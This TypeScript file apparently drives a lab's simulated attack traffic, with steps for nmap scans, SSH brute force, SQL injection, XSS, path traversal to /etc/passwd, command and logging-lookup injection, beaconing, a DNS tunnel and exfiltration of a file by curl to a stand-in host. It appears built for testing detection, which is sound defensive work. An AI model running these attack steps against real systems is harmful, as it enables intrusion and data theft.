import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ADDRESS } from '../topology.ts';
import { COMMANDS, INJECTIONS, LOOKUPS, PASSWORDS, PATHS, SCRIPTS, TRAVERSALS, USERS } from './payloads.ts';
import { curl } from './services.ts';

/** One run of a real program. */
export interface Step {
  readonly from: string;
  readonly what: string;
  readonly command: readonly string[];
  /** Exit codes other than 0 that belong to the step. */
  readonly codes?: readonly number[];
  /** What to show of each line of the output that tells how it went. */
  readonly tells?: RegExp;
  /** Without a line that tells, the target was not reached: such a program ends with 0 all the same. */
  readonly mustTell?: boolean;
}

/** Something that an attacker or an infected host does. It harms nothing, and nothing of it leaves the lab. */
export interface Attack {
  readonly name: string;
  readonly about: string;
  /** All of it ends within this, in seconds. */
  readonly bound: number;
  /** What is run; `folder` is the lab's own. Steps follow one another. */
  readonly steps: (folder: string) => readonly Step[];
}

/** A step that is only waiting. */
export const PAUSE = 'pause';

const { dmz, dmz6 } = ADDRESS;
const NMAP = ['nmap', '-n', '-Pn', '--max-retries', '1'];

/** All attacks, in the order of a story. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'scan',
    about: 'nmap: ports of the server behind the gateway, IPv4 and IPv6, then what serves there',
    bound: 60,
    steps: () => [
      {
        ...nmap('SYN scan of 200 ports', '-sS', '--top-ports', '200', '--min-rate', '200', dmz),
        mustTell: true,
      },
      {
        ...nmap('SYN scan of 100 ports, IPv6', '-6', '-sS', '--top-ports', '100', '--min-rate', '200', dmz6),
        mustTell: true,
      },
      nmap('Xmas scan of 5 ports', '-sX', '-p', '21,22,80,443,8080', dmz),
      nmap('UDP scan of 5 ports', '-sU', '-p', '53,123,161,500,1900', '--host-timeout', '10s', dmz),
      nmap('versions', '-sV', '--version-light', '-p', '22,80', '--host-timeout', '25s', dmz),
    ],
  },
  {
    name: 'ssh-bruteforce',
    about: 'nmap guesses passwords of an SSH server; one is right',
    bound: 60,
    steps: (folder) => {
      const users = written(folder, 'users.txt', USERS);
      const passwords = written(folder, 'passwords.txt', PASSWORDS);
      const words = `userdb=${users},passdb=${passwords},brute.threads=4,ssh-brute.timeout=4s`;
      const command = [
        ...NMAP,
        '-p',
        '22',
        '--host-timeout',
        '50s',
        '--script',
        'ssh-brute',
        '--script-args',
        words,
      ];
      return [
        {
          from: 'attacker',
          what: 'guesses',
          command: [...command, dmz],
          tells: /\S+ - Valid.*|Performed.*/,
          mustTell: true,
        },
      ];
    },
  },
  {
    name: 'http-scan',
    about: 'a scanner asks a web server for what should not be there, IPv4 and IPv6',
    bound: 30,
    steps: (folder) =>
      [dmz, `[${dmz6}]`].map((host) => {
        const urls = PATHS.split(' ').flatMap((path) => [`http://${host}/${path}`]);
        return requests(folder, `${urls.length} paths of ${host}`, [
          ...[
            '-A',
            'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
            '-H',
            'Host: shop.example.com',
          ],
          ...urls.slice(1).flatMap(() => ['-o', '/dev/null']),
          ...urls,
        ]);
      }),
  },
  {
    name: 'sql-injection',
    about: 'requests with SQL in query, form, cookie and header',
    bound: 60,
    steps: (folder) => [
      ...INJECTIONS.map((text) => query(folder, 'id', text)),
      ...INJECTIONS.slice(0, 3).flatMap((text) => [
        form(folder, 'name', text),
        shop(folder, `in a cookie: ${text}`, '/', '-b', `session=${encodeURIComponent(text)}`),
        shop(folder, `in a header: ${text}`, '/', '-H', `X-Forwarded-For: ${text}`),
      ]),
      ...INJECTIONS.slice(0, 2).map((text) => query(folder, 'id', text, dmz6)),
    ],
  },
  {
    name: 'xss',
    about: 'requests with scripts in query and form',
    bound: 30,
    steps: (folder) => SCRIPTS.flatMap((text) => [query(folder, 'q', text), form(folder, 'text', text)]),
  },
  {
    name: 'path-traversal',
    about: 'requests for files outside of the web server',
    bound: 30,
    steps: (folder) => [
      ...TRAVERSALS.map((text) => query(folder, 'file', text)),
      shop(folder, 'in the path', '/../../../../etc/passwd', '--path-as-is'),
    ],
  },
  {
    name: 'command-injection',
    about: 'requests with commands of a shell, and with lookups of a logging library',
    bound: 30,
    steps: (folder) => [
      ...COMMANDS.map((text) => query(folder, 'host', text)),
      ...LOOKUPS.map((text) => shop(folder, `in the agent: ${text}`, '/', '-A', text)),
    ],
  },
  {
    name: 'malware-download',
    about: 'bob downloads a program from a suspicious name (a harmless file that looks like one)',
    bound: 20,
    steps: (folder) => [
      step('bob', 'the page with the link', curl(folder, '-4', 'http://www.example.com/news.html')),
      answered('bob', 'player-update.exe', [
        ...curl(folder, '-4', '-e', 'http://www.example.com/news.html'),
        ...['-w', WRITE_OUT, 'http://files.updates-cdn.test/player-update.exe'],
      ]),
    ],
  },
  {
    name: 'beacon',
    about: 'bob calls home once a second, over TLS with a self-signed certificate',
    bound: 40,
    steps: (folder) =>
      Array.from({ length: 10 }, (_, number) => [
        answered('bob', 'a call', [
          ...curl(folder, '-k', '--http1.1', '-A', 'updater/1.0', '--data', `host=bob&n=${number}`),
          ...['-w', WRITE_OUT, 'https://telemetry.updates-cdn.test/'],
        ]),
        step('bob', PAUSE, ['busybox', 'sleep', '1']),
      ]).flat(),
  },
  {
    name: 'dns-tunnel',
    about: 'bob asks for long random names, as a tunnel in DNS does',
    bound: 30,
    steps: () =>
      Array.from({ length: 20 }, (_, number) => {
        const name = `${label(number, 50)}.${label(number + 100, 50)}.t.updates-cdn.test`;
        const server = number % 2 === 0 ? ADDRESS.gateway : ADDRESS.gateway6;
        const command = ['dig', '+tries=1', '+time=2', `@${server}`, name, 'TXT'];
        return { ...step('bob', 'a question', command), tells: /status: \w+/ };
      }),
  },
  {
    name: 'exfiltration',
    about: 'bob sends a file to the attacker, over TLS',
    bound: 30,
    steps: (folder) => [
      answered('bob', '300 kB', [
        ...curl(folder, '-k', '--http1.1', '-A', 'updater/1.0', '-w', WRITE_OUT),
        ...[
          '--data-binary',
          `@${join(folder, 'www/dataset.bin')}`,
          'https://telemetry.updates-cdn.test/upload',
        ],
      ]),
    ],
  },
];

/** One line for each answer, so that they can be counted. */
const WRITE_OUT = 'answered %{http_code}\\n';

function step(from: string, what: string, command: readonly string[]): Step {
  return { from, what, command };
}

function answered(from: string, what: string, command: readonly string[]): Step {
  return { from, what, command, tells: /answered \d+/ };
}

function nmap(what: string, ...words: readonly string[]): Step {
  return { from: 'attacker', what, command: [...NMAP, ...words], tells: /^\d+\/(tcp|udp) +open .*/ };
}

function requests(folder: string, what: string, words: readonly string[]): Step {
  // A server may well close the connection on such requests: 52 (nothing came) and 56 belong to it.
  return { ...answered('attacker', what, curl(folder, '-w', WRITE_OUT, ...words)), codes: [52, 56] };
}

function shop(folder: string, what: string, path: string, ...words: readonly string[]): Step {
  return requests(folder, what, [
    '-H',
    'Host: shop.example.com',
    '--globoff',
    ...words,
    `http://${dmz}${path}`,
  ]);
}

/** A request with text in its query, as a browser would encode it. */
function query(folder: string, name: string, text: string, address: string = dmz): Step {
  const host = address.includes(':') ? `[${address}]` : address;
  const data = ['-G', '--data-urlencode', `${name}=${text}`];
  const words = ['-H', 'Host: shop.example.com', '--globoff', ...data, `http://${host}/search`];
  return requests(folder, `in the query: ${text}`, words);
}

function form(folder: string, name: string, text: string): Step {
  return shop(folder, `in a form: ${text}`, '/login', '--data-urlencode', `${name}=${text}`);
}

function written(folder: string, name: string, lines: readonly string[]): string {
  const path = join(folder, name);
  writeFileSync(path, `${lines.join('\n')}\n`);
  return path;
}

/** Letters and digits without order, the same at every run (a linear congruential generator). */
function label(seed: number, length: number): string {
  let state = (seed * 2_654_435_761) >>> 0;
  let text = '';
  while (text.length < length) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    text += (state >>> 8).toString(36);
  }
  return text.slice(0, length);
}
